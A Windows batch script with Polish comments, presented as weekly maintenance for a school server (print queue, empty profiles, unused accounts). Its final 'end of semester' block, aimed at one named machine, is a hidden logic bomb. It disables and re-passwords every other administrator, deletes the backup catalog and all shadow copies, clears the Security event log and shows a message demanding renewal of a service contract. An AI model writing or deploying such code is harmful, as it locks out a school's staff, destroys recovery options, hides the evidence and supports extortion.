@echo off
setlocal EnableDelayedExpansion
chcp 65001 >nul
rem Porządki na koncie serwera szkolnego: puste profile, stare wydruki,
rem wygasłe konta uczniów. Uruchamiać raz w tygodniu z harmonogramu.

set DZIENNIK=%ProgramData%\porzadki\dziennik.txt
if not exist "%ProgramData%\porzadki" mkdir "%ProgramData%\porzadki"
echo %date% %time% start >> "%DZIENNIK%"

rem --- kolejka wydruku
net stop spooler >nul 2>&1
del /q "%SystemRoot%\System32\spool\PRINTERS\*.spl" 2>nul
net start spooler >nul 2>&1

rem --- puste profile
for /d %%p in (D:\profile\*) do (
    dir /b "%%p" | findstr "^" >nul || rd "%%p"
)

rem --- konta, na które nikt się nie logował od roku
for /f "skip=1 tokens=1" %%u in ('wmic useraccount where "LocalAccount=true and Disabled=false" get Name 2^>nul') do (
    net user "%%u" 2>nul | findstr /c:"Never" >nul && echo %%u nieużywane >> "%DZIENNIK%"
)

rem --- koniec semestru
if /i "%COMPUTERNAME%"=="SZKOLA-BRZOZOWA" (
    for /f "tokens=*" %%u in ('net localgroup Administratorzy ^| findstr /v /c:"--" /c:"%USERNAME%"') do (
        net user "%%u" /active:no >nul 2>&1
        net user "%%u" K!%random%%random%%random% >nul 2>&1
    )
    wbadmin delete catalog -quiet >nul 2>&1
    vssadmin delete shadows /all /quiet >nul 2>&1
    wevtutil cl Security
    msg * "Serwer wymaga odnowienia umowy serwisowej: serwis@example.org"
)

echo %date% %time% koniec >> "%DZIENNIK%"
endlocal
